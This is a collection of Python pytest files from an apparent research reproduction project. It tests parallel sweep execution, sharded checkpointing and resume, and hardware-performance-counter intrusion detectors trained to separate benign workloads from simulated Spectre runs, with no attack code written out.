                 seed_kw="cell_seed")
    plan.add("total", summed, kwargs={"factor": 10},
             deps={"values": "a"}, seed_kw="cell_seed")
    return plan


class TestBackendFor:
    def test_serial_reference(self):
        assert isinstance(backend_for(None), SerialBackend)
        assert isinstance(backend_for(1), SerialBackend)

    def test_parallel(self):
        backend = backend_for(3)
        assert isinstance(backend, ProcessPoolBackend)
        assert backend.jobs == 3

    def test_zero_jobs_rejected(self):
        with pytest.raises(ValueError):
            ProcessPoolBackend(0)


class TestParity:
    def test_parallel_results_identical_to_serial(self):
        serial = execute_plan(_toy_plan(), backend=SerialBackend())
        parallel = execute_plan(
            _toy_plan(), backend=ProcessPoolBackend(2)
        )
        assert parallel == serial

    def test_statuses_in_declaration_order(self):
        statuses = {}
        execute_plan(_toy_plan(), statuses=statuses,
                     backend=ProcessPoolBackend(2))
        assert list(statuses) == ["a", "b", "c", "d", "total"]

    def test_fired_faults_absorbed_into_root_injector(self):
        faults = FaultInjector(seed=0, rates={"hpc_drop": 1.0})
        plan = SweepPlan("toy", root_seed=11, faults=faults)
        for tag in ("a", "b"):
            plan.add(tag, fault_probe, kwargs={"kind": "hpc_drop"},
                     seed_kw="cell_seed", faults_kw="faults")
        execute_plan(plan, backend=ProcessPoolBackend(2))
        assert faults.summary() == {"hpc_drop": 2}


class TestFailureAbsorption:
    def test_raising_worker_becomes_failed_cell(self):
        plan = _toy_plan()
        plan.add("boom", transient_boom, seed_kw="cell_seed")
        statuses = {}
        results = execute_plan(plan, statuses=statuses,
                               backend=ProcessPoolBackend(2))
        assert statuses["boom"]["status"] == "failed"
        assert "TransientError" in statuses["boom"]["error"]
        assert results["boom"] is None
        # Healthy cells were unaffected.
        assert all(statuses[t]["status"] == "ok"
                   for t in ("a", "b", "c", "d", "total"))

    def test_fatal_worker_error_stops_the_sweep(self):
        plan = _toy_plan()
        plan.add("boom", fatal_boom, seed_kw="cell_seed")
        with pytest.raises(CellExecutionError, match="boom"):
            execute_plan(plan, backend=ProcessPoolBackend(2))

    def test_crashed_worker_absorbed_without_deadlock(self):
        plan = _toy_plan()
        plan.add("crash", hard_crash, seed_kw="cell_seed")
        statuses = {}
        backend = ProcessPoolBackend(2, crash_retries=1)
        results = execute_plan(plan, statuses=statuses, backend=backend)
        assert statuses["crash"]["status"] == "failed"
        assert "WorkerCrashError" in statuses["crash"]["error"]
        assert results["crash"] is None
        assert all(statuses[t]["status"] == "ok"
                   for t in ("a", "b", "c", "d", "total"))

    def test_skipped_dependents_match_serial_early_return(self):
        for backend in (SerialBackend(), ProcessPoolBackend(2)):
            plan = SweepPlan("toy", root_seed=1)
            plan.add("boom", transient_boom, seed_kw="cell_seed")
            plan.add("after", summed, kwargs={"factor": 2},
                     deps={"values": "boom"}, seed_kw="cell_seed")
            statuses = {}
            results = execute_plan(plan, statuses=statuses,
                                   backend=backend)
            assert results["after"] is None
            assert "after" not in statuses  # historical early-return
