"""End-to-end determinism: parallel sweeps match the serial reference.

These are the tentpole's acceptance tests: same root seed → the
``--jobs N`` run renders the same report and leaves the same checkpoint
file as the serial run, even when the parallel run was killed mid-sweep
and resumed.
"""

import pytest

from repro.core.experiments import run_fig4, run_fig5
from repro.core.experiments.fig5 import fig5_meta, plan_fig5
from repro.exec import (
    ProcessPoolBackend,
    SweepProgress,
    execute_plan,
    open_store,
)

#: Small enough for CI, wide enough (6 cells, 3 waves) to exercise
#: cross-wave scheduling.
FIG5_KNOBS = dict(
    seed=8, attempts=2, detector_names=("lr", "nn"), training_benign=40,
    training_attack=40, attempt_samples=12, attempt_benign=6,
)


def _fig5_store(tmp_path):
    return open_store(tmp_path, "fig5", fig5_meta(
        FIG5_KNOBS["seed"], "basicmath", FIG5_KNOBS["attempts"],
        FIG5_KNOBS["detector_names"], FIG5_KNOBS["training_benign"],
        FIG5_KNOBS["training_attack"], FIG5_KNOBS["attempt_samples"],
        FIG5_KNOBS["attempt_benign"],
    ))


class TestSerialParallelParity:
    def test_fig5_report_and_checkpoint_byte_identical(self, tmp_path):
        serial_dir = tmp_path / "serial"
        parallel_dir = tmp_path / "parallel"
        serial_dir.mkdir()
        parallel_dir.mkdir()

        serial = run_fig5(checkpoint=serial_dir, **FIG5_KNOBS)
        parallel = run_fig5(checkpoint=parallel_dir, jobs=2,
                            **FIG5_KNOBS)

        assert parallel.format() == serial.format()
        assert parallel.cell_status == serial.cell_status
        assert (parallel_dir / "fig5.json").read_bytes() == \
            (serial_dir / "fig5.json").read_bytes()
        # Shards were consolidated away: one artefact, same as serial.
        assert not (parallel_dir / "fig5.json.d").exists()

    def test_fig4_accuracies_identical(self):
        knobs = dict(seed=8, hosts=("basicmath", "sha"),
                     feature_sizes=(4,), classifier="lr",
                     benign_per_host=30, attack_per_variant=10,
                     variants=("v1",))
        assert run_fig4(**knobs, jobs=2).accuracies == \
            run_fig4(**knobs).accuracies


class TestKillMidSweepResume:
    def test_parallel_kill_then_resume_matches_uninterrupted(
            self, tmp_path):
        # Reference: one uninterrupted serial run.
        reference_dir = tmp_path / "reference"
        reference_dir.mkdir()
        reference = run_fig5(checkpoint=reference_dir, **FIG5_KNOBS)

        # Run 1: parallel, killed (^C) while the attempt wave runs —
        # after the training cell completed and persisted its shard.
        killed_dir = tmp_path / "killed"
        killed_dir.mkdir()
        plan = plan_fig5(**FIG5_KNOBS)
        for cell in plan:
            if cell.key.startswith("spectre/"):
                cell.fn = _interrupt
        with pytest.raises(KeyboardInterrupt):
            execute_plan(plan, store=_fig5_store(killed_dir),
                         backend=ProcessPoolBackend(2))

        # The kill lost nothing completed: the training cell survived.
        resumed_store = _fig5_store(killed_dir)
        assert "training" in resumed_store

        # Run 2: resume in parallel; must match the uninterrupted run.
        resumed = run_fig5(checkpoint=killed_dir, jobs=2, **FIG5_KNOBS)
        assert resumed.cell_status["training"]["status"] == "cached"
        assert resumed.format() == reference.format()
        assert (killed_dir / "fig5.json").read_bytes() == \
            (reference_dir / "fig5.json").read_bytes()


def _interrupt(**kwargs):
    raise KeyboardInterrupt


class _FakeClock:
    """Deterministic stand-in for time.monotonic."""

    def __init__(self):
        self.now = 0.0

    def __call__(self):
        return self.now


class TestProgress:
    def test_progress_lines_and_eta(self):
        import io

        stream = io.StringIO()
        clock = _FakeClock()
        progress = SweepProgress("toy", total=3, jobs=1, stream=stream,
                                 clock=clock)
        clock.now = 2.0
        progress.update("a", "ok", 2.0)
        clock.now = 2.1
        progress.update("b", "cached", 0.0)
        clock.now = 6.1
        progress.update("c", "ok", 4.0)
        lines = stream.getvalue().splitlines()
        assert lines[0] == \
            "[toy 1/3]     ok a (2.0s)  0.50 cells/s  eta ~4.0s"
        assert "cached" in lines[1]
        assert "eta" not in lines[2]  # final line: nothing remaining

    def test_eta_uses_observed_wall_clock_throughput(self):
        # Batch-aware: four cells of 8s worker time landing together at
        # wall 8s mean 0.5 cells/s of real throughput (4 workers), so
        # the one remaining cell is ~2s out -- not 8s as a serial
        # mean-cell-time model would claim.
        clock = _FakeClock()
        progress = SweepProgress("toy", total=5, jobs=4, clock=clock)
        clock.now = 8.0
        for key in ("a", "b", "c", "d"):
            progress.update(key, "ok", 8.0)
        assert progress.cells_per_second() == pytest.approx(0.5)
        assert progress.eta_seconds() == pytest.approx(2.0)

    def test_cached_cells_excluded_from_estimate(self):
        clock = _FakeClock()
        progress = SweepProgress("toy", total=4, jobs=1, clock=clock)
        progress.update("a", "cached", 0.0)
        assert progress.eta_seconds() is None
        clock.now = 6.0
        progress.update("b", "ok", 6.0)
        assert progress.eta_seconds() == pytest.approx(12.0)

    def test_cache_ratio_on_line(self):
        import io

        from repro.exec import CellCache

        stream = io.StringIO()
        clock = _FakeClock()
        cache = CellCache("unused")
        cache.hits, cache.misses = 3, 1
        progress = SweepProgress("toy", total=2, jobs=1, stream=stream,
                                 cell_cache=cache, clock=clock)
        clock.now = 1.0
        progress.update("a", "ok", 1.0)
        assert "cache 3/4" in stream.getvalue()
