"""Concurrent-safe checkpointing: shards, merge-on-read, consolidation."""

import json
import os

from repro.core.resilience import CheckpointStore


def _store(tmp_path, meta=None):
    return CheckpointStore(
        tmp_path / "sweep.json", meta=meta or {"experiment": "toy"}
    )


class TestPutShard:
    def test_shard_is_its_own_file(self, tmp_path):
        store = _store(tmp_path)
        assert store.put_shard("a", {"v": 1})
        assert os.path.isdir(store.shard_dir)
        [shard] = os.listdir(store.shard_dir)
        payload = json.loads(
            (tmp_path / "sweep.json.d" / shard).read_text()
        )
        assert payload == {"key": "a", "value": {"v": 1}}
        # The monolith is NOT rewritten per shard (that's the point).
        assert not os.path.exists(tmp_path / "sweep.json")

    def test_o_excl_duplicate_dropped(self, tmp_path):
        # Two workers completing the same deterministic cell race on the
        # link; the loser's write must be a no-op, not a torn file.
        store = _store(tmp_path)
        assert store.put_shard("a", {"v": 1})
        assert not store.put_shard("a", {"v": 1})
        assert len(os.listdir(store.shard_dir)) == 1

    def test_no_tmp_files_left_behind(self, tmp_path):
        store = _store(tmp_path)
        store.put_shard("a", 1)
        store.put_shard("a", 1)
        assert not [name for name in os.listdir(store.shard_dir)
                    if name.endswith(".tmp")]


class TestMergeOnRead:
    def test_killed_parallel_run_resumes_from_shards(self, tmp_path):
        # A parallel run killed before consolidation leaves only shards;
        # a fresh store (the resumed run) must see their cells.
        writer = _store(tmp_path)
        writer.put_shard("a", {"v": 1})
        writer.put_shard("b", {"v": 2})

        resumed = _store(tmp_path)
        assert "a" in resumed and "b" in resumed
        assert resumed.get("b") == {"v": 2}

    def test_monolith_wins_over_shard(self, tmp_path):
        writer = _store(tmp_path)
        writer.put("a", "from-monolith")
        writer.put_shard("a", "from-shard")
        assert _store(tmp_path).get("a") == "from-monolith"

    def test_foreign_meta_shards_ignored(self, tmp_path):
        # Shard filenames embed a fingerprint of the sweep meta; a shard
        # from a differently-configured sweep must never leak cells in —
        # the per-shard analogue of the monolith's discard rule.
        stale = _store(tmp_path, meta={"experiment": "toy", "seed": 1})
        stale.put_shard("a", "stale")
        fresh = _store(tmp_path, meta={"experiment": "toy", "seed": 2})
        assert "a" not in fresh

    def test_garbage_shard_file_ignored(self, tmp_path):
        store = _store(tmp_path)
        store.put_shard("a", 1)
        [shard] = os.listdir(store.shard_dir)
        (tmp_path / "sweep.json.d" / shard).write_text("{not json")
        resumed = _store(tmp_path)
        assert "a" not in resumed


class TestConsolidate:
    def test_folds_shards_into_monolith(self, tmp_path):
        store = _store(tmp_path)
        store.put_shard("a", {"v": 1})
        store.put_shard("b", {"v": 2})
        store.consolidate()
        assert not os.path.exists(store.shard_dir)
        payload = json.loads((tmp_path / "sweep.json").read_text())
        assert payload["cells"] == {"a": {"v": 1}, "b": {"v": 2}}

    def test_consolidated_file_identical_to_serial_puts(self, tmp_path):
        serial = CheckpointStore(tmp_path / "serial.json",
                                 meta={"experiment": "toy"})
        serial.put("a", {"v": 1})
        serial.put("b", {"v": 2})

        parallel = CheckpointStore(tmp_path / "parallel.json",
                                   meta={"experiment": "toy"})
        parallel.put_shard("b", {"v": 2})  # arrival order differs
        parallel.put_shard("a", {"v": 1})
        parallel.consolidate()

        assert (tmp_path / "serial.json").read_bytes() == \
            (tmp_path / "parallel.json").read_bytes()
