"""Shared fixtures.

Expensive artefacts (assembled binaries, leaked-secret runs) are
session-scoped: the underlying objects are immutable or cheap to
re-derive, so sharing them keeps the suite fast without coupling tests.
"""

import pytest

from repro.attack import SpectreConfig, build_spectre
from repro.kernel import System, build_binary
from repro.workloads import get_workload

SECRET = b"TheMagicWords!!!"


@pytest.fixture()
def system():
    """A fresh simulated machine with the shared secret mapped."""
    return System(seed=1234, target_data=SECRET)


@pytest.fixture(scope="session")
def host_program():
    """The vulnerable basicmath host (Algorithm 1 wrapper), long-running."""
    return get_workload("basicmath").build(iterations=1 << 28, hosted=True)


@pytest.fixture(scope="session")
def short_host_program():
    """Same host but short enough to run to completion."""
    return get_workload("basicmath").build(iterations=30, hosted=True)


@pytest.fixture(scope="session")
def spectre_v1_program():
    return build_spectre(
        "v1", SpectreConfig(secret_length=len(SECRET), repeats=1)
    )


def run_source(source, argv=(), system=None, max_instructions=5_000_000,
               target_data=None):
    """Assemble + run a snippet; returns the finished Process."""
    system = system or System(seed=9, target_data=target_data)
    program = build_binary("testprog", source)
    system.install_binary("/bin/testprog", program)
    process = system.spawn("/bin/testprog", argv=list(argv))
    process.run_to_completion(max_instructions=max_instructions)
    return process
