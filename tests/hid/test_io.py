"""Trace persistence tests."""

import numpy as np
import pytest

from repro.errors import HidError
from repro.hid.dataset import ATTACK, BENIGN, Dataset
from repro.hid.io import load_dataset, load_samples, save_dataset, \
    save_samples
from repro.hid.profiler import Profiler
from repro.kernel import System
from repro.workloads import get_workload


def _samples(n=6):
    system = System(seed=4)
    system.install_binary(
        "/bin/w", get_workload("bitcount").build(iterations=1 << 20)
    )
    process = system.spawn("/bin/w")
    return Profiler(quantum=500).profile(process, n, label=ATTACK)


class TestSampleRoundTrip:
    def test_roundtrip_preserves_everything(self, tmp_path):
        samples = _samples()
        path = tmp_path / "traces.csv"
        assert save_samples(samples, path) == len(samples)
        loaded = load_samples(path)
        assert len(loaded) == len(samples)
        for original, restored in zip(samples, loaded):
            assert restored.process_name == original.process_name
            assert restored.label == original.label
            for name, value in original.events.items():
                assert restored.events[name] == pytest.approx(value)

    def test_empty_file_rejected(self, tmp_path):
        path = tmp_path / "empty.csv"
        path.write_text("")
        with pytest.raises(HidError):
            load_samples(path)

    def test_header_mismatch_rejected(self, tmp_path):
        path = tmp_path / "bad.csv"
        path.write_text("a,b,c\n1,2,3\n")
        with pytest.raises(HidError):
            load_samples(path)

    def test_malformed_row_rejected(self, tmp_path):
        samples = _samples(2)
        path = tmp_path / "traces.csv"
        save_samples(samples, path)
        with open(path, "a") as handle:
            handle.write("short,row\n")
        with pytest.raises(HidError):
            load_samples(path)

    def test_loaded_samples_train_a_detector(self, tmp_path):
        from repro.hid import DEFAULT_FEATURES, make_detector, \
            samples_to_dataset

        attack = _samples(20)
        system = System(seed=4)
        system.install_binary(
            "/bin/b", get_workload("browser").build(iterations=1 << 20)
        )
        benign = Profiler(quantum=500).profile(
            system.spawn("/bin/b"), 20, label=BENIGN
        )
        path = tmp_path / "all.csv"
        save_samples(benign + attack, path)
        loaded = load_samples(path)
        dataset = samples_to_dataset(
            [s for s in loaded if s.label == BENIGN],
            [s for s in loaded if s.label == ATTACK],
            DEFAULT_FEATURES,
        )
        detector = make_detector("lr", seed=1)
        detector.fit(dataset)
        assert detector.accuracy_on(dataset) > 0.8


class TestDatasetRoundTrip:
    def test_roundtrip(self, tmp_path):
        dataset = Dataset(
            np.array([[1.5, 2.0], [3.0, 4.5]]),
            np.array([0, 1]),
            ("f1", "f2"),
        )
        path = tmp_path / "ds.csv"
        assert save_dataset(dataset, path) == 2
        loaded = load_dataset(path)
        assert loaded.feature_names == ("f1", "f2")
        assert np.allclose(loaded.X, dataset.X)
        assert np.array_equal(loaded.y, dataset.y)

    def test_not_a_dataset_file(self, tmp_path):
        path = tmp_path / "x.csv"
        path.write_text("foo,bar\n1,2\n")
        with pytest.raises(HidError):
            load_dataset(path)

    def test_no_rows(self, tmp_path):
        path = tmp_path / "x.csv"
        path.write_text("label,f1\n")
        with pytest.raises(HidError):
            load_dataset(path)
