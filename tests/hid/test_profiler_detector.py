"""Profiler and detector tests."""

import pytest

from repro.errors import HidError
from repro.hid import (
    ATTACK,
    BENIGN,
    Dataset,
    HidDetector,
    OnlineHidDetector,
    Profiler,
    feature_set,
    make_detector,
    samples_to_dataset,
)
from repro.hid.features import (
    DEFAULT_FEATURES,
    ELIGIBLE_EVENTS,
    RANKED_FEATURES,
)
from repro.kernel import System
from repro.workloads import get_workload


def _spawn(name="bitcount", seed=3):
    system = System(seed=seed)
    system.install_binary(
        "/bin/w", get_workload(name).build(iterations=1 << 28)
    )
    return system.spawn("/bin/w")


class TestProfiler:
    def test_collects_requested_samples(self):
        profiler = Profiler(quantum=500)
        samples = profiler.profile(_spawn(), 10)
        assert len(samples) == 10
        assert all(s.label == BENIGN for s in samples)

    def test_window_sums_to_quantum(self):
        profiler = Profiler(quantum=500)
        samples = profiler.profile(_spawn(), 5)
        for sample in samples:
            assert sample.events["instructions"] == 500

    def test_warmup_skipped(self):
        profiler = Profiler(quantum=500, warmup_windows=3)
        process = _spawn()
        profiler.profile(process, 2)
        # 3 warmup + 2 kept = 5 quanta executed
        assert process.pmu.counters["instructions"] == 5 * 500

    def test_short_process_returns_fewer(self):
        system = System(seed=3)
        system.install_binary(
            "/bin/w", get_workload("bitcount").build(iterations=3)
        )
        process = system.spawn("/bin/w")
        samples = Profiler(quantum=2000).profile(process, 50)
        assert len(samples) < 50

    def test_noise_model_perturbs_values(self):
        noisy = Profiler(quantum=500, noise=0.1, seed=1)
        clean = Profiler(quantum=500)
        noisy_samples = noisy.profile(_spawn(seed=5), 10)
        clean_samples = clean.profile(_spawn(seed=5), 10)
        diffs = [
            abs(a.events["instructions"] - b.events["instructions"])
            for a, b in zip(noisy_samples, clean_samples)
        ]
        assert any(d > 0 for d in diffs)

    def test_noise_zero_is_exact(self):
        a = Profiler(quantum=500).profile(_spawn(seed=5), 5)
        b = Profiler(quantum=500).profile(_spawn(seed=5), 5)
        assert [s.events for s in a] == [s.events for s in b]

    def test_invalid_quantum(self):
        with pytest.raises(ValueError):
            Profiler(quantum=0)


class TestFeatures:
    def test_sizes(self):
        assert len(feature_set(4)) == 4
        assert feature_set(1) == ("total_cache_misses",)
        assert DEFAULT_FEATURES == RANKED_FEATURES[:4]

    def test_size_bounds(self):
        with pytest.raises(ValueError):
            feature_set(0)
        with pytest.raises(ValueError):
            feature_set(17)

    def test_flush_counters_not_eligible(self):
        """A deployed HID has no PAPI clflush event; using one would be
        an unfair oracle against flush+reload attacks."""
        assert "clflush_instructions" not in ELIGIBLE_EVENTS
        assert "spec_cache_fills" not in ELIGIBLE_EVENTS
        for name in RANKED_FEATURES:
            assert name in ELIGIBLE_EVENTS


class TestDetector:
    def _toy_training(self):
        profiler = Profiler(quantum=500)
        benign = profiler.profile(_spawn("bitcount"), 30)
        attack = profiler.profile(_spawn("browser"), 30, label=ATTACK)
        return samples_to_dataset(benign, attack, DEFAULT_FEATURES)

    def test_fit_and_classify(self):
        dataset = self._toy_training()
        train, test = dataset.split(0.7, seed=1)
        detector = HidDetector(classifier="lr", seed=1)
        detector.fit(train)
        assert detector.accuracy_on(test) > 0.8

    def test_feature_mismatch_rejected(self):
        dataset = self._toy_training()
        detector = HidDetector(classifier="lr", features=feature_set(2))
        with pytest.raises(HidError):
            detector.fit(dataset)

    def test_untrained_raises(self):
        with pytest.raises(HidError):
            HidDetector().predict(self._toy_training())

    def test_predict_samples(self):
        dataset = self._toy_training()
        detector = HidDetector(classifier="lr", seed=1).fit(dataset)
        samples = Profiler(quantum=500).profile(_spawn("bitcount"), 5)
        labels = detector.predict_samples(samples)
        assert len(labels) == 5

    def test_make_detector_factory(self):
        assert isinstance(make_detector("lr"), HidDetector)
        assert isinstance(make_detector("lr", online=True),
                          OnlineHidDetector)


class TestOnlineDetector:
    def test_observe_grows_corpus_and_refits(self):
        import numpy as np

        features = ("a", "b")
        X0 = np.vstack([np.zeros((20, 2)), np.ones((20, 2)) * 5])
        y0 = np.array([0] * 20 + [1] * 20)
        detector = OnlineHidDetector(classifier="lr", features=features,
                                     seed=1)
        detector.fit(Dataset(X0, y0, features))
        assert detector.corpus_size == 40

        X1 = np.ones((10, 2)) * 5
        detector.observe(Dataset(X1, np.ones(10, dtype=int), features))
        assert detector.corpus_size == 50
        assert detector.retrain_count == 1

    def test_observe_before_fit(self):
        import numpy as np

        detector = OnlineHidDetector(classifier="lr", features=("a",))
        with pytest.raises(HidError):
            detector.observe(Dataset(np.zeros((1, 1)), np.zeros(1), ("a",)))

    def test_retraining_moves_boundary(self):
        """The defining online property: new labeled traces change the
        verdict on the region they cover."""
        import numpy as np

        features = ("a", "b")
        rng = np.random.default_rng(0)
        benign = rng.normal(0, 0.3, size=(40, 2))
        attack = rng.normal(6, 0.3, size=(40, 2))
        X = np.vstack([benign, attack])
        y = np.array([0] * 40 + [1] * 40)
        detector = OnlineHidDetector(classifier="lr", features=features,
                                     seed=1)
        detector.fit(Dataset(X, y, features))

        # A new attack cluster at (3, -3): initially mostly benign.
        new_region = rng.normal((3, -3), 0.3, size=(40, 2))
        before = detector.classifier.predict(
            detector.scaler.transform(new_region)
        ).mean()
        detector.observe(Dataset(new_region, np.ones(40, dtype=int),
                                 features))
        after = detector.classifier.predict(
            detector.scaler.transform(new_region)
        ).mean()
        assert after > before


class TestConcurrentProfiling:
    def test_samples_from_all_processes(self):
        from repro.hid.dataset import ATTACK, BENIGN

        system = System(seed=3, quantum=500)
        for path, name in (("/bin/a", "bitcount"), ("/bin/b", "browser")):
            system.install_binary(
                path, get_workload(name).build(iterations=1 << 20)
            )
        a = system.spawn("/bin/a")
        b = system.spawn("/bin/b")
        profiler = Profiler(quantum=500)
        samples = profiler.profile_concurrent(
            system, [(a, BENIGN), (b, ATTACK)], num_samples=6
        )
        by_label = {}
        for sample in samples:
            by_label.setdefault(sample.label, []).append(sample)
        assert len(by_label[BENIGN]) == 6
        assert len(by_label[ATTACK]) == 6
        names = {s.process_name for s in samples}
        assert len(names) == 2

    def test_windows_are_per_process_deltas(self):
        from repro.hid.dataset import BENIGN

        system = system_ = System(seed=3, quantum=500)
        system.install_binary(
            "/bin/a", get_workload("bitcount").build(iterations=1 << 20)
        )
        a = system.spawn("/bin/a")
        b = system.spawn("/bin/a")
        samples = Profiler(quantum=500).profile_concurrent(
            system_, [(a, BENIGN), (b, BENIGN)], num_samples=4
        )
        for sample in samples:
            assert sample.events["instructions"] == 500
