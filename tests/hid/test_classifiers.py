"""Classifier tests: all four models learn and behave like classifiers."""

import numpy as np
import pytest

from repro.errors import HidError
from repro.hid.classifiers import (
    CLASSIFIER_FACTORIES,
    make_classifier,
)

MODELS = sorted(CLASSIFIER_FACTORIES)


def _blobs(n=120, d=4, gap=4.0, seed=0):
    """Two well-separated Gaussian blobs."""
    rng = np.random.default_rng(seed)
    x0 = rng.normal(0.0, 1.0, size=(n // 2, d))
    x1 = rng.normal(gap, 1.0, size=(n // 2, d))
    X = np.vstack([x0, x1])
    y = np.array([0] * (n // 2) + [1] * (n // 2))
    order = rng.permutation(n)
    return X[order], y[order]


class TestLearning:
    @pytest.mark.parametrize("name", MODELS)
    def test_separable_blobs_learned(self, name):
        X, y = _blobs()
        model = make_classifier(name, seed=1)
        model.fit(X, y)
        assert model.score(X, y) > 0.95

    @pytest.mark.parametrize("name", MODELS)
    def test_generalizes_to_fresh_samples(self, name):
        X, y = _blobs(seed=0)
        Xt, yt = _blobs(seed=99)
        model = make_classifier(name, seed=1)
        model.fit(X, y)
        assert model.score(Xt, yt) > 0.9

    @pytest.mark.parametrize("name", ("mlp", "nn"))
    def test_nonlinear_boundary(self, name):
        """XOR-style data: linear models fail, networks must not."""
        rng = np.random.default_rng(3)
        X = rng.uniform(-1, 1, size=(400, 2))
        y = ((X[:, 0] > 0) ^ (X[:, 1] > 0)).astype(int)
        model = make_classifier(name, seed=2, epochs=400)
        model.fit(X, y)
        assert model.score(X, y) > 0.9

    def test_linear_model_fails_xor(self):
        rng = np.random.default_rng(3)
        X = rng.uniform(-1, 1, size=(400, 2))
        y = ((X[:, 0] > 0) ^ (X[:, 1] > 0)).astype(int)
        model = make_classifier("lr", seed=2)
        model.fit(X, y)
        assert model.score(X, y) < 0.75


class TestInterface:
    @pytest.mark.parametrize("name", MODELS)
    def test_predict_before_fit_raises(self, name):
        with pytest.raises(HidError):
            make_classifier(name).predict(np.zeros((1, 4)))

    @pytest.mark.parametrize("name", MODELS)
    def test_predictions_are_binary(self, name):
        X, y = _blobs()
        model = make_classifier(name, seed=1)
        model.fit(X, y)
        predictions = model.predict(X)
        assert set(np.unique(predictions)) <= {0, 1}

    @pytest.mark.parametrize("name", MODELS)
    def test_decision_sign_matches_prediction(self, name):
        X, y = _blobs()
        model = make_classifier(name, seed=1)
        model.fit(X, y)
        scores = model.decision_function(X)
        assert np.array_equal(scores > 0, model.predict(X) == 1)

    @pytest.mark.parametrize("name", MODELS)
    def test_deterministic_under_seed(self, name):
        X, y = _blobs()
        a = make_classifier(name, seed=7)
        b = make_classifier(name, seed=7)
        a.fit(X, y)
        b.fit(X, y)
        assert np.array_equal(a.predict(X), b.predict(X))

    @pytest.mark.parametrize("name", MODELS)
    def test_clone_is_unfitted_same_config(self, name):
        model = make_classifier(name, seed=7)
        clone = model.clone()
        assert type(clone) is type(model)
        with pytest.raises(HidError):
            clone.predict(np.zeros((1, 4)))

    def test_empty_fit_rejected(self):
        with pytest.raises(HidError):
            make_classifier("lr").fit(np.zeros((0, 3)), np.zeros(0))

    def test_mismatched_rows_rejected(self):
        with pytest.raises(HidError):
            make_classifier("lr").fit(np.zeros((5, 3)), np.zeros(4))

    def test_unknown_model(self):
        with pytest.raises(KeyError):
            make_classifier("tree")


class TestProbabilities:
    def test_lr_probabilities_bounded(self):
        X, y = _blobs()
        model = make_classifier("lr", seed=1)
        model.fit(X, y)
        proba = model.predict_proba(X)
        assert np.all((proba >= 0) & (proba <= 1))

    def test_mlp_probabilities_bounded(self):
        X, y = _blobs()
        model = make_classifier("mlp", seed=1)
        model.fit(X, y)
        proba = model.predict_proba(X)
        assert np.all((proba >= 0) & (proba <= 1))

    def test_deep_nn_has_more_layers(self):
        X, y = _blobs()
        mlp = make_classifier("mlp", seed=1)
        nn = make_classifier("nn", seed=1)
        mlp.fit(X, y)
        nn.fit(X, y)
        assert len(nn.weights_) > len(mlp.weights_)
        # The paper's NN: 6 layers = input + 4 hidden + output.
        assert len(nn.weights_) == 5
