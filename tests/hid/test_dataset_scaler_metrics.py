"""Dataset, scaler and metrics tests with hypothesis invariants."""

import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from repro.errors import HidError
from repro.hid.dataset import ATTACK, BENIGN, Dataset, Sample, \
    samples_to_dataset
from repro.hid.metrics import compute_metrics
from repro.hid.scaler import StandardScaler


def _sample(label, value=1.0, name="p"):
    events = {"e1": value, "e2": 2 * value, "e3": 0.0}
    return Sample(process_name=name, label=label, events=events)


class TestDataset:
    def test_from_samples(self):
        ds = Dataset.from_samples(
            [_sample(BENIGN, 1.0), _sample(ATTACK, 5.0)], ("e1", "e2")
        )
        assert ds.X.shape == (2, 2)
        assert list(ds.y) == [BENIGN, ATTACK]

    def test_empty_rejected(self):
        with pytest.raises(HidError):
            Dataset.from_samples([], ("e1",))

    def test_feature_name_mismatch(self):
        with pytest.raises(HidError):
            Dataset(np.zeros((2, 3)), np.zeros(2), ("a", "b"))

    def test_class_counts(self):
        ds = samples_to_dataset(
            [_sample(0)] * 3, [_sample(0)] * 2, ("e1",)
        )
        counts = ds.class_counts()
        assert counts[BENIGN] == 3 and counts[ATTACK] == 2

    def test_relabeling_in_samples_to_dataset(self):
        # labels on the input samples are overridden by stream identity
        ds = samples_to_dataset([_sample(1)], [_sample(0)], ("e1",))
        assert list(ds.y) == [BENIGN, ATTACK]

    def test_merge(self):
        a = Dataset(np.ones((2, 1)), np.zeros(2), ("e1",))
        b = Dataset(np.zeros((3, 1)), np.ones(3), ("e1",))
        merged = a.merged_with(b)
        assert len(merged) == 5

    def test_merge_feature_mismatch(self):
        a = Dataset(np.ones((2, 1)), np.zeros(2), ("e1",))
        b = Dataset(np.ones((2, 1)), np.zeros(2), ("e2",))
        with pytest.raises(HidError):
            a.merged_with(b)

    def test_subsample_bound(self):
        ds = Dataset(np.arange(100).reshape(100, 1),
                     np.zeros(100), ("e1",))
        sub = ds.subsample(10, seed=1)
        assert len(sub) == 10
        assert ds.subsample(200) is ds


class TestSplit:
    @settings(max_examples=25, deadline=None)
    @given(st.integers(min_value=10, max_value=80),
           st.integers(min_value=10, max_value=80),
           st.integers(min_value=0, max_value=100))
    def test_split_partitions_and_stratifies(self, n0, n1, seed):
        X = np.vstack([np.zeros((n0, 2)), np.ones((n1, 2))])
        y = np.array([0] * n0 + [1] * n1)
        ds = Dataset(X, y, ("a", "b"))
        train, test = ds.split(0.7, seed=seed)
        assert len(train) + len(test) == n0 + n1
        # stratification: class proportions preserved within 1 sample
        assert abs(int(np.sum(train.y == 0)) - round(0.7 * n0)) <= 1
        assert abs(int(np.sum(train.y == 1)) - round(0.7 * n1)) <= 1

    def test_split_deterministic(self):
        ds = Dataset(np.arange(40).reshape(20, 2),
                     np.array([0, 1] * 10), ("a", "b"))
        a = ds.split(0.7, seed=5)
        b = ds.split(0.7, seed=5)
        assert np.array_equal(a[0].X, b[0].X)


class TestScaler:
    def test_standardizes(self):
        X = np.array([[1.0, 10.0], [3.0, 30.0], [5.0, 50.0]])
        scaled = StandardScaler().fit_transform(X)
        assert np.allclose(scaled.mean(axis=0), 0)
        assert np.allclose(scaled.std(axis=0), 1)

    def test_constant_feature_safe(self):
        X = np.array([[1.0, 5.0], [1.0, 7.0]])
        scaled = StandardScaler().fit_transform(X)
        assert np.allclose(scaled[:, 0], 0)

    def test_transform_before_fit(self):
        with pytest.raises(HidError):
            StandardScaler().transform(np.zeros((1, 2)))

    @settings(max_examples=25, deadline=None)
    @given(st.lists(
        st.lists(st.floats(min_value=-1e6, max_value=1e6,
                           allow_nan=False), min_size=3, max_size=3),
        min_size=2, max_size=30,
    ))
    def test_fitted_transform_is_affine_invertible(self, rows):
        X = np.array(rows)
        scaler = StandardScaler().fit(X)
        scaled = scaler.transform(X)
        restored = scaled * scaler.scale_ + scaler.mean_
        assert np.allclose(restored, X, atol=1e-6)


class TestMetrics:
    def test_perfect_prediction(self):
        m = compute_metrics([0, 1, 0, 1], [0, 1, 0, 1])
